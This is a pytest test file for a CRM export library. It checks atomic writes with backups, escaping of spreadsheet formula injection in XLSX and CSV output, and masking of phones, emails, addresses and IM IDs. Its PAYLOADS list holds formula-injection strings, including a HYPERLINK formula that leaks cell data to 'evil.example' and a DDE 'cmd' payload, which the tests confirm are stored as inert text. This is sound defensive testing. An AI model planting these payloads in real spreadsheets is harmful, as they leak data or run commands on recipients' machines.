"""Safe outputs: atomic writes with backups, no formula injection, masking for exports."""

from __future__ import annotations

import csv
import datetime as dt
import os
import zipfile
from decimal import Decimal
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from crm_xl.ports.atomic import atomic_path, atomic_write, backup_path, list_backups
from crm_xl.ports.sanitize import (
    csv_safe,
    csv_safe_frame,
    is_formula_like,
    mask_email,
    mask_email_series,
    mask_frame,
    mask_im,
    mask_im_series,
    mask_phone,
    mask_phone_series,
    mask_text,
    mask_text_series,
    safe_text,
    write_cell,
    write_frame,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

# ---------------------------------------------------------------------------------- atomic


def test_new_file_is_written_without_backup(tmp_path: Path):
    target = tmp_path / "report.xlsx"
    assert atomic_write(target, lambda tmp: tmp.write_bytes(b"v1")) == target
    assert target.read_bytes() == b"v1"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]


def test_backups_rotate_and_keep_the_newest(tmp_path: Path):
    target = tmp_path / "report.xlsx"
    for version in range(1, 6):
        atomic_write(target, lambda tmp, v=version: tmp.write_bytes(b"v%d" % v), backups=2)
    assert target.read_bytes() == b"v5"
    backups = list_backups(target)
    assert [b.read_bytes() for b in backups] == [b"v4", b"v3"]
    for b in backups:
        assert b.name.startswith("report.") and b.name.endswith(".bak.xlsx")
        stamp = b.name.split(".")[1][:15]
        dt.datetime.strptime(stamp, "%Y%m%d-%H%M%S")
    assert len(list(tmp_path.iterdir())) == 3


def test_zero_backups_means_none(tmp_path: Path):
    target = tmp_path / "out.csv"
    target.write_text("old")
    atomic_write(target, lambda tmp: tmp.write_text("new"), backups=0)
    assert target.read_text() == "new" and list_backups(target) == []


def test_backup_names_are_timestamped_and_unique(tmp_path: Path):
    target = tmp_path / "crm.xlsm"
    when = dt.datetime(2026, 3, 5, 14, 5, 1)
    first = backup_path(target, when)
    assert first.name == "crm.20260305-140501.bak.xlsm"
    first.write_text("x")
    assert backup_path(target, when).name == "crm.20260305-140501-2.bak.xlsm"


def test_failing_writer_leaves_destination_untouched(tmp_path: Path):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"precious")
    os.chmod(target, 0o640)

    def broken(tmp: Path):
        tmp.write_bytes(b"half a file")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError, match="disk full"):
        atomic_write(target, broken)
    assert target.read_bytes() == b"precious"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]  # no temp, no backup

    atomic_write(target, lambda tmp: tmp.write_bytes(b"next"))
    assert target.stat().st_mode & 0o777 == 0o640  # permissions carried over


def test_context_manager_gives_a_temp_path_in_the_same_directory(tmp_path: Path):
    target = tmp_path / "sub" / "book.xlsx"
    target.parent.mkdir()
    with atomic_path(target) as tmp:
        assert tmp.parent == target.parent and tmp != target and tmp.suffix == ".xlsx"
        workbook = xlsxwriter.Workbook(tmp)
        workbook.add_worksheet().write_string(0, 0, "ok")
        workbook.close()
        assert not target.exists()
    assert CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python() == [["ok"]]

    with pytest.raises(KeyboardInterrupt):
        with atomic_path(target) as tmp:
            tmp.write_bytes(b"partial")
            raise KeyboardInterrupt
    assert sorted(p.name for p in target.parent.iterdir()) == ["book.xlsx"]


# ---------------------------------------------------------------------------------- formulas


def test_is_formula_like():
    assert all(is_formula_like(p) for p in PAYLOADS)
    for harmless in ["", "ACME", " =1", "a=b", "13812345678", "张三", "'=1"]:
        assert not is_formula_like(harmless)
    for non_text in [None, -5, 3.2, True, dt.date(2026, 1, 1)]:
        assert not is_formula_like(non_text)


def test_csv_safe_scalars():
    assert csv_safe("=1+1") == "'=1+1" and safe_text("@x") == "'@x"
    assert csv_safe("ACME") == "ACME" and csv_safe(-5) == -5 and csv_safe(None) is None


def test_xlsx_never_gets_a_formula(tmp_path: Path):
    path = tmp_path / "out.xlsx"
    values = PAYLOADS + [-5, 3.5, Decimal("12.30"), np.int64(7), True, None, float("nan"),
                         dt.date(2026, 3, 5), pd.Timestamp("2026-03-05 10:30"), "普通文本"]
    workbook = xlsxwriter.Workbook(path)
    sheet = workbook.add_worksheet()
    date_fmt = workbook.add_format({"num_format": "yyyy-mm-dd"})
    for row, value in enumerate(values):
        fmt = date_fmt if isinstance(value, (dt.date, pd.Timestamp)) else None
        write_cell(sheet, row, 0, value, fmt)
    workbook.close()

    with zipfile.ZipFile(path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    cells = [row[0] for row in openpyxl.load_workbook(path).active.iter_rows(max_row=len(values))]
    for cell, payload in zip(cells, PAYLOADS):  # openpyxl leaves CR as Excel's _x000D_ escape
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == payload
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in calamine[: len(PAYLOADS)]] == PAYLOADS
    by_value = dict(zip(range(len(values)), cells))
    n = len(PAYLOADS)
    assert by_value[n].data_type == "n" and by_value[n].value == -5
    assert by_value[n + 1].value == 3.5 and by_value[n + 2].value == 12.3
    assert by_value[n + 3].value == 7
    assert by_value[n + 4].data_type == "b" and by_value[n + 4].value is True
    assert by_value[n + 5].value is None and by_value[n + 6].value is None
    assert by_value[n + 7].is_date and by_value[n + 7].value == dt.datetime(2026, 3, 5)
    assert by_value[n + 8].value == dt.datetime(2026, 3, 5, 10, 30)
    assert by_value[n + 9].value == "普通文本"


def test_write_frame_writes_header_and_rows_safely(tmp_path: Path):
    path = tmp_path / "frame.xlsx"
    frame = pd.DataFrame({"=name": ["=evil()", "ACME"], "amount": [-100.0, 2.5]})
    workbook = xlsxwriter.Workbook(path)
    assert write_frame(workbook.add_worksheet(), frame) == 3
    workbook.close()
    sheet = openpyxl.load_workbook(path).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["=name", "amount"], ["=evil()", -100], ["ACME", 2.5]]
    assert sheet["A1"].data_type == "s" and sheet["A2"].data_type == "s"
    assert sheet["B2"].data_type == "n"


def test_csv_export_quotes_formulas_but_not_numbers(tmp_path: Path):
    frame = pd.DataFrame({
        "note": PAYLOADS[:4] + ["plain"],
        "amount": [-5, 1, 2, 3, 4],
        "mixed": pd.Series(["-7", -7, None, "@a", 1.5], dtype=object),
    })
    path = tmp_path / "out.csv"
    atomic_write(path, lambda tmp: csv_safe_frame(frame).to_csv(tmp, index=False,
                                                                  encoding="utf-8-sig"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["note", "amount", "mixed"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS[:4]] + ["plain"]
    assert [r[1] for r in rows[1:]] == ["-5", "1", "2", "3", "4"]
    assert [r[2] for r in rows[1:]] == ["'-7", "-7", "", "'@a", "1.5"]
    numbers = {"-5", "-7"}  # numbers stay numbers; only text is neutralised
    for r in rows[1:]:
        assert not any(is_formula_like(field) for field in r if field not in numbers)


# ---------------------------------------------------------------------------------- masks


@pytest.mark.parametrize("raw,masked", [
    ("13812345678", "138****5678"),
    ("+86 138 1234 5678", "+86 138****5678"),
    ("+86-138-1234-5678", "+86 138****5678"),
    ("0086 13812345678", "+86 138****5678"),
    ("010-12345678", "010****5678"),
    ("+49 30 1234567", "+49 3****4567"),
    ("手机 13812345678 / 座机 0571-87654321", "手机 138****5678 / 座机 057*****4321"),
    ("12345", "*****"),
])
def test_mask_phone(raw: str, masked: str):
    assert mask_phone(raw) == masked


def test_mask_email_text_im():
    assert mask_email("john@example.com") == "j***@example.com"
    assert mask_email("a@b.cn; Mary.Lee@corp.de") == "a***@b.cn; M***@corp.de"
    assert mask_text("广东省深圳市南山区科技园1号") == "广东省深圳市***"
    assert mask_text("123 Main Street, Springfield") == "123 Ma***"
    assert mask_text("Rd 5") == "Rd***"
    assert mask_im("wxid_abc12345") == "wx***45"
    assert mask_im("+8613812345678") == "+86 138****5678"
    assert mask_im("abc") == "a***"
    for fn in (mask_phone, mask_email, mask_text, mask_im):
        assert fn(None) is None and fn("") == ""


def test_series_versions_match_scalars():
    samples = ["13812345678", "+86 138 1234 5678", "john@example.com", "广东省深圳市南山区",
               "wxid_abc12345", "Rd 5", "ab", "x", "12345", "+49 30 1234567", None]
    series = pd.Series(samples, dtype=object)
    for scalar, vector in [(mask_phone, mask_phone_series), (mask_email, mask_email_series),
                           (mask_text, mask_text_series), (mask_im, mask_im_series)]:
        expected = [scalar(v) for v in samples]
        assert vector(series).tolist() == expected, scalar.__name__
    assert mask_phone_series(pd.Series([], dtype="str")).tolist() == []


def test_mask_frame_masks_only_the_named_columns():
    frame = pd.DataFrame({"customer_id": ["C001"], "phone": ["13812345678"],
                          "email": ["john@example.com"], "address": ["广东省深圳市南山区科技园"],
                          "wechat": ["wxid_abc12345"]})
    out = mask_frame(frame, {"phone": "phone", "email": "email", "address": "address",
                             "wechat": "im", "whatsapp": "im"})
    assert out.iloc[0].tolist() == ["C001", "138****5678", "j***@example.com", "广东省深圳市***",
                                    "wx***45"]
    assert frame["phone"].iloc[0] == "13812345678"  # the input frame is not changed


@settings(max_examples=200, deadline=None)
@given(st.from_regex(r"[1-9][0-9]{7,14}", fullmatch=True),
       st.sampled_from(["", "+86 ", "0086", "+1 "]), st.sampled_from(["", " ", "-"]))
def test_masked_phone_never_reveals_the_number(digits: str, prefix: str, sep: str):
    raw = prefix + sep.join([digits[:3], digits[3:7], digits[7:]]).strip(sep)
    masked = mask_phone(raw)
    assert digits not in masked.replace(" ", "").replace("-", "")
    assert masked.count("*") >= 4 and masked.endswith(digits[-4:])
    assert mask_phone_series(pd.Series([raw])).iloc[0] == masked


@settings(max_examples=200, deadline=None)
@given(st.from_regex(r"[a-z][a-z0-9._]{1,12}@[a-z]{2,8}\.(com|cn|de)", fullmatch=True))
def test_masked_email_keeps_domain_hides_local_part(address: str):
    local, domain = address.split("@")
    masked = mask_email(address)
    assert masked == f"{local[0]}***@{domain}"
    assert mask_email_series(pd.Series([address])).iloc[0] == masked
